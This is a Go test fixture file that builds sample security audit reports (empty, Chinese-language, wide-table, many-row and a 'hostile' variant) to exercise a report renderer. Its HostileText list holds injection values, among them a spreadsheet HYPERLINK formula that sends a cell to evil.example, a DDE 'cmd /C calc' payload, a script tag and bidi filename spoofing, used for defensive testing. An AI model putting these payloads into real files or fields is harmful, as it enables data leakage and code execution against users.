package documenttest

import (
	"fmt"
	"iter"
	"strings"
	"time"

	"trailscribe/internal/document"
	"trailscribe/internal/result"
)

// Empty is a report over a period without a single event, with every block in its empty state.
func Empty() *document.Document {
	cols, _ := events(0)
	return &document.Document{
		Ref: "monthly-security 2026-10 r1", Title: "Monthly security review", Period: "1 – 31 October 2026", Language: "en-GB", As: As,
		Words: Words(), Cell: Cell,
		Sections: []document.Section{
			{Part: document.Cover, Title: "Cover", Sheet: "Summary", Blocks: []document.Block{document.Front{
				Verdict: document.Verdict{Tone: document.Muted, Title: "Nothing to evaluate"},
			}}},
			{Part: document.Summary, Number: "1", Title: "Executive summary", Sheet: "Summary", NewPage: true, Blocks: []document.Block{
				document.Paragraph{Style: document.Lead, Text: "No events were read. No statement is made."},
				document.Tiles{},
				document.Chart{Kind: document.BarChart, Title: "Result by control family", Empty: "No data."},
				document.Chart{Kind: document.LineChart, Title: "Events per day", Unit: "events", Half: true, Empty: "No data."},
				document.Points{},
			}},
			{Part: document.Scope, Number: "2", Title: "Scope", Sheet: "Completeness", Blocks: []document.Block{
				document.Matrix{Title: "Coverage"},
				document.Checks{Title: "Checks", Head: [6]string{"Ref", "Check", "Expected", "Observed", "Result", "How checked"}},
				document.Facts{},
				document.Signatures{},
			}},
			{Part: document.Findings, Number: "3", Title: "Findings", NewPage: true, Blocks: []document.Block{
				document.Card{Ref: "F-01", Title: "Trail stopped"},
				document.Table{Ref: "F-01", Title: "Evidence", Sheet: "F-01", Columns: cols, Rows: of(cols), Empty: "No rows."},
				document.Table{Title: "Nothing at all", Empty: "No rows.", Rows: of(nil)},
				document.Code{},
			}},
			{Part: document.Method, Number: "A", Title: "Method", Sheet: "Method"},
		},
	}
}

// HostileText are values an attacker can put into a log: each must be seen whole or as codes, and act nowhere.
func HostileText() []string {
	return []string{
		"=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'quoted",
		"emoji 😀 and 👩‍💻 user", "𝕬 mathematical", "bidi \u202egnp.exe\u202c hidden", "zero\u200bwidth\u200d \ufeffbom", "isolate \u2066x\u2069",
		"control \x00\x01\x1b[31mred\x1b[0m bell\x07", "invalid \xff\xfe utf8 \xc3(", "line\nbreak\r\nand\vtab", "non\u2028separators\u2029",
		"\ufffe noncharacter \uffff",
		"(parenthesis) \\ backslash ) ( \\", "<script>alert(1)</script> & \"'", "_x0041_ literal escape",
		"combining a\u0301e\u0302 Z\u0351\u036b\u0343", "soft\u00adhyphen filler\u3164x",
		"العربية שלום ไทย हिन्दी", "中文混合 English 日本語 한국어", strings.Repeat("unbreakable", 40), strings.Repeat("中", 300),
		strings.Repeat("a b ", 2000),
		"ends with space ", " starts with space", "", "%s %d %n {page} {pages}", "endobj\nendstream\nxref\n%%EOF",
	}
}

// Hostile has the hostile texts in every place a text can stand.
func Hostile() *document.Document {
	texts := HostileText()
	cols := []document.Column{
		{Name: "n", Label: "No\u202e.", Kind: result.Int, Form: document.FormNumber},
		{Name: "actor", Label: "Actor 😀", Kind: result.Text, Form: document.FormActor, Width: 40},
		{Name: "status", Label: "Status", Kind: result.Text, Form: document.FormStatus, Values: Statuses(), Width: 10},
		{Name: "json", Label: "Request", Kind: result.Text, Form: document.FormJSON, Width: 4000},
		{Name: "ref", Label: "Ref", Kind: result.Text, Form: document.FormRef, Width: 8},
	}
	var rows []result.Row
	var fields []document.Field
	var points []document.Point
	m := document.Matrix{Title: "matrix \u202e 😀", Columns: []string{"😀", "", "b"}}
	for i, s := range texts {
		rows = append(rows, result.Row{int64(i + 1), s, []string{"new", "no-such-code"}[i%2], `{"name":"` + s + `"}`,
			[]string{"F-01", "F-99"}[i%2]})
		if len(s) < 2000 {
			fields = append(fields, document.Field{Label: "field " + s, Text: s, Mono: i%2 == 0, Ref: "no-such-ref"})
			points = append(points, document.Point{Pill: document.Pill{Text: s, Tone: "no-such-tone"}, Text: s, Ref: "F-99"})
			m.Rows = append(m.Rows, document.MatrixRow{Group: s, Label: s, Note: s, Cells: []document.MatrixCell{{Tone: document.Good, Mark: "😀"},
				{Tone: "x"}, {Tone: document.High, Mark: "long"}, {}}})
		}
	}
	rows = append(rows, result.Row{nil, nil, nil, nil, nil})
	all := strings.Join(texts[:24], " ")
	return &document.Document{
		Ref: "hostile \u202e 😀 \xff", Title: "Hostile \x00 😀 " + texts[24], Entity: all[:400], Period: "1\u2028 – 31 October",
		Language: "en) /Evil (", As: As,
		Footer: strings.Repeat("footer 😀 ", 40), Words: Words(), Cell: Cell,
		Sections: []document.Section{
			{Part: document.Cover, Title: "Cover", Sheet: "Summary", Blocks: []document.Block{document.Front{
				Kicker: all[:200], Verdict: document.Verdict{Tone: document.High, Kicker: "k😀", Title: all[:120], Text: all[:300],
					Figures: []document.Figure{{Value: "123,456,789,012", Label: all[:60]}, {Value: "2", Label: "b"}, {Value: "3", Label: "c"},
						{Value: "4", Label: "d"}, {Value: "5", Label: "e"}}},
				Facts: fields, Digest: document.Field{Label: "digest", Text: all}, Note: all, Notices: points[:4], Closing: all,
			}}},
			{Part: document.Summary, Number: "1", Title: all[:300], Sheet: "Summary", NewPage: true, Blocks: []document.Block{
				document.Paragraph{Style: document.Lead, Text: all}, document.Paragraph{Style: "no-such-style", Text: all},
				document.Tiles{Tiles: []document.Tile{{Label: all[:80], Value: "999,999,999,999,999", Note: all[:120]},
					{Label: "b", Value: "😀", Tone: "x"}, {}, {Value: "4"}, {Value: "5"}}},
				document.Chart{Kind: document.BarChart, Title: all[:200], Unit: all[:200], Categories: texts[:12],
					Series: []document.Series{{Name: texts[7], Points: []float64{1, 2, -3, 1e18, 0}},
						{Name: texts[9], Tone: document.High, Points: []float64{1e18}, Marks: []int{-1, 0, 99}}}},
				document.Chart{Kind: document.ColumnChart, Half: true, Title: all[:200], Categories: texts[:26],
					Series: []document.Series{{Name: texts[7], Points: []float64{-1, -2, -3}, Marks: []int{0}}}},
				document.Chart{Kind: document.LineChart, Half: true, Title: all[:200], Categories: texts[:26],
					Series: []document.Series{{Name: texts[25], Points: []float64{5, 5, 5}}, {Name: texts[24], Points: []float64{1}}}},
				document.Chart{Kind: document.HeatChart, Title: "heat", Categories: texts[:12],
					Series: []document.Series{{Name: texts[24], Points: []float64{1, 2}}, {Name: texts[8]}}},
				document.Chart{Kind: "no-such-kind", Title: "?", Categories: []string{"a"}, Series: []document.Series{{Points: []float64{1}}}},
				document.Points{Title: all[:100], Points: points},
			}},
			{Part: document.Scope, Number: "2", Title: "Scope", Sheet: "=cmd", Blocks: []document.Block{
				m,
				document.Checks{Title: all[:60], Head: [6]string{"Ref", "Check 😀", "Expected", "Observed", "Result", "How"},
					Rows: []document.CheckRow{{Ref: all[:40], Name: all[:200], Expected: all[:80], Observed: texts[24],
						Result: document.Pill{Text: all[:90]}, How: all[:300]}}},
				document.Heading{Level: 2, Ref: "F-01", Text: all[:200]}, document.Heading{Level: 9, Text: texts[24]},
				document.Facts{Title: all[:60], Fields: fields},
			}},
			{Part: document.Findings, Number: "3", Title: "Findings", NewPage: true, Blocks: []document.Block{
				document.Card{Ref: "F-01", Title: all[:300], Pills: []document.Pill{{Text: all[:60], Tone: document.High},
					{Text: "b"}}, Fields: fields},
				document.Table{Ref: "F-01", Title: all[:80], Sheet: "F-01", Columns: cols, Rows: of(cols, rows...), Shown: int64(len(rows)),
					Note: all[:200], Review: Review(""), Zebra: true},
				document.Code{Title: all[:80], Text: strings.Join(texts, "\n") + "\n\n\ttabbed\n" + SQL},
				document.Signatures{Roles: []document.Role{{Title: all[:60], Fields: texts[:8]}, {Title: "b"}, {Title: "c", Fields: []string{"x"}},
					{Title: "d", Fields: []string{"x", "y"}}}},
			}},
		},
	}
}

// Chinese is a report in Chinese with every title, label and value in it.
func Chinese() *document.Document {
	cols := []document.Column{
		{Name: "time", Label: "事件时间（北京时间）", Kind: result.Local, Form: document.FormLocalTime},
		{Name: "account", Label: "账户", Kind: result.Text, Form: document.FormAccount},
		{Name: "actor", Label: "操作人", Kind: result.Text, Form: document.FormActor},
		{Name: "what", Label: "说明", Kind: result.Text, Form: document.FormText},
		{Name: "count", Label: "次数", Kind: result.Int, Form: document.FormNumber},
		{Name: "status", Label: "状态", Kind: result.Text, Form: document.FormStatus,
			Values: []document.Choice{{Code: "new", Label: "新增", Tone: document.Critical}, {Code: "waived", Label: "已豁免", Tone: document.Accent}}},
	}
	var rows []result.Row
	for i := range 12 {
		rows = append(rows, result.Row{time.Date(2026, 10, 2+i, 9, 30, i, 0, time.UTC), "902215577310",
			[]string{"陈晓明", "系统管理员（应急）", "l.brandt"}[i%3],
			"在生产账户中由组织外的角色修改了密钥策略，事后补录了变更单；组织路径为 o-4f8kq2/r-9z1y/ou-prod，“财务”系统。", int64(i * 1021), []string{"new", "waived"}[i%2]})
	}
	set := of(cols, rows...)
	w := Words()
	w.Contents, w.Continued, w.Page = "目录", "续", "第 {page} 页，共 {pages} 页"
	return &document.Document{
		Ref: "monthly-security 2026-10 r1", Title: "特权访问与日志完整性", Entity: "子午线控股有限公司", Period: "2026 年 10 月 1 日至 31 日", Language: "zh-CN", As: As,
		Footer: "机密 · 截至 2026-11-02 15:14:36", Words: w, Cell: Cell,
		Sections: []document.Section{
			{Part: document.Cover, Title: "封面", Sheet: "摘要", Blocks: []document.Block{document.Front{
				Kicker: "云审计报告", Verdict: document.Verdict{Tone: document.Critical, Kicker: "总体结论", Title: "存在例外",
					Text: "12 项控制中有 3 项存在例外；签署前须处理 F-01。", Figures: []document.Figure{{Value: "8", Label: "通过", Tone: document.Good},
						{Value: "3", Label: "例外", Tone: document.Critical}}},
				Facts:  []document.Field{{Label: "报告编号", Text: "monthly-security 2026-10 r1"}, {Label: "框架", Text: "等级保护 2.0 三级；ISO/IEC 27001:2022"}},
				Digest: document.Field{Label: "证据摘要", Text: digest, Mono: true}, Note: "该摘要覆盖全部查询、参数、输入文件与结果。", Closing: "机密。仅供审计委员会使用。",
			}}},
			{Part: document.Summary, Number: "1", Title: "摘要", Sheet: "摘要", NewPage: true, Blocks: []document.Block{
				document.Paragraph{Style: document.Lead, Text: "十二项测试中有八项特权访问受控。三项控制存在例外，其中一项（生产账户的跟踪停止了四十七分钟）须在签署前处理。"},
				document.Tiles{Tiles: []document.Tile{{Label: "测试控制", Value: "12", Note: "全部自动化，全量总体"},
					{Label: "存在例外", Value: "3", Note: "严重 1 · 高 1 · 中 1", Tone: document.Critical}}},
				document.Chart{Kind: document.BarChart, Half: true, Title: "按控制类别的结果", Unit: "控制数", Categories: []string{"身份与访问", "日志", "密钥管理"},
					Series: []document.Series{{Name: "通过", Tone: document.Good, Points: []float64{3, 2, 1}},
						{Name: "例外", Tone: document.Critical, Points: []float64{1, 1, 1}}}},
				document.Chart{Kind: document.ColumnChart, Half: true, Title: "每周特权事件", Unit: "次", Categories: []string{"第一周", "第二周", "第三周", "第四周"},
					Series: []document.Series{{Name: "事件", Points: []float64{120, 160, 90, 140}, Marks: []int{1}}}},
				document.Points{Title: "要点", Points: []document.Point{{Pill: document.Pill{Text: "严重", Tone: document.Critical},
					Text: "十月十四日凌晨二时十一分，账户 447100932218 调用了 StopLogging。", Ref: "F-01"}}},
			}},
			{Part: document.Findings, Number: "2", Title: "发现", NewPage: true, Blocks: []document.Block{
				document.Card{Ref: "F-01", Title: "生产账户的组织跟踪停止了四十七分钟", Pills: []document.Pill{{Text: "严重", Tone: document.Critical}},
					Fields: []document.Field{{Label: "事实", Text: "在 447100932218 账户中调用了 StopLogging，四十七分钟后恢复。"},
						{Label: "依据", Text: "等级保护 2.0：8.1.5.4 集中管控。"}}},
				document.Table{Ref: "F-01", Title: "证据", Sheet: "F-01", Columns: widths(cols, set), Rows: set, Shown: 12, Note: "全部 12 行", Zebra: true},
			}},
		},
	}
}

// Wide has a coverage matrix of a quarter for many accounts and a table with more columns than any page has room for.
func Wide() *document.Document {
	cols, rows := wide(20)
	var many []document.Column
	var row result.Row
	for i := range 26 {
		many = append(many, document.Column{Name: fmt.Sprintf("c%d", i), Label: fmt.Sprintf("Column %d", i+1), Kind: result.Text,
			Form: document.FormText, Width: 20})
		row = append(row, fmt.Sprintf("value %d of a row", i+1))
	}
	tall := []document.Column{{Name: "id", Label: "Event ID", Kind: result.Text, Form: document.FormID, Width: 36},
		{Name: "policy", Label: "Policy document", Kind: result.Text, Form: document.FormJSON, Width: 9000}}
	return &document.Document{
		Ref: "quarterly 2026-Q4 r1", Title: "Quarterly review", Entity: "Meridian Holdings plc", Period: "1 October – 31 December 2026",
		Language: "en-GB", As: As, Words: Words(), Cell: Cell,
		Sections: []document.Section{
			{Part: document.Cover, Title: "Cover", Blocks: []document.Block{front()}},
			{Part: document.Scope, Number: "1", Title: "Scope", Sheet: "Completeness", NewPage: true, Blocks: []document.Block{
				document.Paragraph{Style: document.Body, Text: "A quarter of days for twenty accounts in three regions."},
				coverage(92, 20),
			}},
			{Part: document.Findings, Number: "2", Title: "Findings", NewPage: true, Blocks: []document.Block{
				document.Card{Ref: "F-01", Title: "Key policy changed", Pills: []document.Pill{{Text: "High", Tone: document.High}},
					Fields: []document.Field{{Label: "Condition", Text: "Twenty changes."}}},
				document.Table{Ref: "F-01", Title: "Evidence", Sheet: "F-01", Columns: cols, Rows: rows, Shown: 20, Note: "all 20 rows", Zebra: true},
				document.Table{Ref: "F-02", Title: "Twenty-six columns", Sheet: "F-02", Columns: many, Rows: of(many, row, row,
					row), Shown: 3, Zebra: true},
				document.Table{Ref: "F-03", Title: "A row taller than a page", Sheet: "F-03", Columns: tall, Shown: 2, Zebra: true,
					Rows: of(tall, result.Row{"5d8a3f0c-7c11-4d0e-9b52-2a1f9e0c7d41", `{"Version":"2012-10-17","Statement":[` +
						strings.Repeat(`{"Effect":"Allow","Action":["kms:Decrypt"],"Resource":"*"},`, 140) + `{}]}`},
						result.Row{"5d8a3f0c-7c11-4d0e-9b52-2a1f9e0c7d42", "{}"})},
			}},
		},
	}
}

// Many is a report whose one finding prints n rows. The rows are made as they are read.
func Many(n int64) *document.Document {
	cols := []document.Column{
		{Name: "eventtime", Label: "Event time (UTC)", Kind: result.Instant, Form: document.FormTime, Width: 19},
		{Name: "account", Label: "Account", Kind: result.Text, Form: document.FormAccount, Width: 12},
		{Name: "actor", Label: "User", Kind: result.Text, Form: document.FormActor, Width: 24},
		{Name: "ip", Label: "Source IP", Kind: result.Text, Form: document.FormIP, Width: 12},
		{Name: "eventname", Label: "Event", Kind: result.Text, Form: document.FormCode, Width: 18},
		{Name: "eventid", Label: "Event ID", Kind: result.Text, Form: document.FormID, Width: 36},
	}
	return &document.Document{
		Ref: "many 2026-10 r1", Title: "Many rows", Entity: "Meridian Holdings plc", Period: "1 – 31 October 2026", Language: "en-GB", As: As,
		Words: Words(), Cell: Cell,
		Sections: []document.Section{
			{Part: document.Cover, Title: "Cover", Sheet: "Summary", Blocks: []document.Block{front()}},
			{Part: document.Findings, Number: "1", Title: "Findings", NewPage: true, Blocks: []document.Block{
				document.Card{Ref: "F-01", Title: "Everything that happened", Pills: []document.Pill{{Text: "Info", Tone: document.Info}},
					Fields: []document.Field{{Label: "Condition", Text: Number(n) + " events."}}},
				document.Table{Ref: "F-01", Title: "Evidence", Sheet: "F-01", Columns: cols, Rows: made{cols, n}, Shown: n,
					Note: "all " + Number(n) + " rows", Zebra: true},
			}},
		},
	}
}

type made struct {
	cols []document.Column
	n    int64
}

func (m made) Columns() []result.Column { return of(m.cols).Columns() }
func (m made) Count() int64             { return m.n }
func (m made) All() iter.Seq2[result.Row, error] {
	return func(yield func(result.Row, error) bool) {
		first := time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)
		row := make(result.Row, len(m.cols))
		for i := range m.n {
			row[0] = first.Add(time.Duration(i) * 76 * time.Second)
			row[1] = "018833904417"
			row[2] = []string{"svc-etl-legacy", "j.moreau", "陈晓明", "assumed-role/Ops/l.brandt"}[i%4]
			row[3] = fmt.Sprintf("10.20.%d.%d", i/250%250, i%250)
			row[4] = []string{"ConsoleLogin", "GetObject", "DescribeInstances"}[i%3]
			row[5] = fmt.Sprintf("365a8581-49c6-4e2d-97e9-%012x", 0xd1860d1d68d8+i*7919)
			if !yield(row, nil) {
				return
			}
		}
	}
}
